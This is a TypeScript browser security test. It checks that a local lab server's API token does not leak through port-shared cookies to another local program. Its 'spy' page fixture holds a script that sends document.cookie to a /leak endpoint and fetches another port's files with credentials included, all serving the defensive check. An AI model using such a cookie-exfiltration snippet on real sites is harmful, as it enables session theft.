import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { chromium, type BrowserContext, type Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LabApi } from '../../main/api/lab-api';
import { startServer, type LabServer } from '../../main/server/server';
import { CHROMIUM, CHROMIUM_ARGS, requireChromium, skipBrowserTests } from '../e2e/chromium';

/**
 * Issue 14, item 4: cookies are not isolated by port, so a cookie that a lab server sets on 127.0.0.1 is sent to every
 * other server on 127.0.0.1. Two lab servers and a third local program ("spy") in headless Chromium: after the user
 * opens both labs, nothing the browser sends to the spy carries a lab token, and a page of the spy cannot read a run
 * file of a lab through the browser's ambient credentials.
 */

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b550000000a4944415478da63600000000200015f1b7d9d0000000049454e44ae426082',
  'hex',
);

let dir: string;
let api: LabApi;
let labA: LabServer;
let labB: LabServer;
let spy: http.Server;
let spyPort: number;
const spyHeaders: string[] = [];
let context: BrowserContext;

/** The spy page: it tries to read lab A's run file and API with whatever credentials the browser attaches. */
const spyPage = (aPort: number) => `<!doctype html><title>spy</title>
<img id="img" src="http://127.0.0.1:${aPort}/files/run-a/gen-000/samples.png">
<script>
  fetch('http://127.0.0.1:${aPort}/files/run-a/gen-000/samples.png', { mode: 'no-cors', credentials: 'include' }).catch(() => {});
  fetch('http://127.0.0.1:${aPort}/', { mode: 'no-cors', credentials: 'include' }).catch(() => {});
  document.cookie && fetch('/leak?c=' + encodeURIComponent(document.cookie));
</script>`;

describe.skipIf(skipBrowserTests)('the API token never travels to another port (two labs and a spy in Chromium)', () => {
  beforeAll(async () => {
    requireChromium();
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lab-cookie-'));
    const workspace = path.join(dir, 'workspace');
    fs.mkdirSync(path.join(workspace, 'run-a', 'gen-000'), { recursive: true });
    fs.writeFileSync(path.join(workspace, 'run-a', 'gen-000', 'samples.png'), PNG);
    const renderer = path.join(dir, 'renderer');
    fs.mkdirSync(path.join(renderer, 'assets'), { recursive: true });
    // a stand-in renderer: an external script (CSP 'self'), loaded the way the real index.html loads its bundle
    fs.writeFileSync(
      path.join(renderer, 'index.html'),
      '<!doctype html><title>lab</title><script type="module" src="/assets/app.js"></script>',
    );
    fs.writeFileSync(path.join(renderer, 'assets', 'app.js'), 'document.title = "lab ready";');
    api = new LabApi({ workspace, openPath: async () => ({ opened: false, reason: 'test' }) });
    labA = await startServer({ api, rendererDir: renderer });
    labB = await startServer({ api, rendererDir: renderer });
    spy = http.createServer((req, res) => {
      spyHeaders.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
      res.setHeader('Content-Type', 'text/html');
      res.end(req.url === '/' ? spyPage(labA.port) : '');
    });
    await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve));
    spyPort = (spy.address() as { port: number }).port;
    context = await chromium.launchPersistentContext(path.join(dir, 'profile'), {
      executablePath: CHROMIUM,
      headless: true,
      args: CHROMIUM_ARGS,
    });
  }, 120_000);

  afterAll(async () => {
    await context?.close();
    await labA?.close();
    await labB?.close();
    await new Promise<void>((resolve) => (spy ? spy.close(() => resolve()) : resolve()));
    await api?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it('opens both labs, then the spy: the spy sees no token and cannot read a run file', async () => {
    const page = context.pages()[0] ?? (await context.newPage());
    for (const lab of [labA, labB]) {
      await page.goto(lab.openUrl);
      await expect.poll(() => page.title(), { timeout: 30_000 }).toBe('lab ready'); // the page and its assets still load
      // the page's own file URLs (token in the query, as the renderer's client makes them) still work
      const status = await page.evaluate(async (u) => (await fetch(u)).status, `/files/run-a/gen-000/samples.png?token=${lab.token}`);
      expect(status).toBe(200);
    }

    // what the spy page makes the browser send to lab A: each request, with the headers the browser attached to it
    // (cookies included), is sent again from here to read lab A's answer, which the browser hides from the page
    const sent: Request[] = [];
    page.on('request', (r) => {
      if (r.url().startsWith(`http://127.0.0.1:${labA.port}/files/`)) sent.push(r);
    });
    await page.goto(`http://127.0.0.1:${spyPort}/`);
    await page.waitForLoadState('networkidle');
    await expect.poll(() => sent.length, { timeout: 30_000 }).toBeGreaterThanOrEqual(1);
    const statuses: { url: string; status: number }[] = [];
    for (const r of sent) {
      const headers = await r.allHeaders().catch(() => r.headers());
      const res = await fetch(r.url(), { headers: Object.fromEntries(Object.entries(headers).filter(([k]) => !k.startsWith(':'))) });
      statuses.push({ url: r.url(), status: res.status });
    }

    const cookies = await context.cookies();
    for (const lab of [labA, labB]) {
      for (const h of spyHeaders) expect(h, 'a request to the spy carried a lab token').not.toContain(lab.token);
      expect(
        cookies.map((c) => c.value),
        'no cookie holds a lab token',
      ).not.toContain(lab.token);
    }
    for (const s of statuses) {
      if (s.url.includes('/files/')) expect(s.status, `${s.url} from the spy's page`).toBe(401);
    }
  });
});
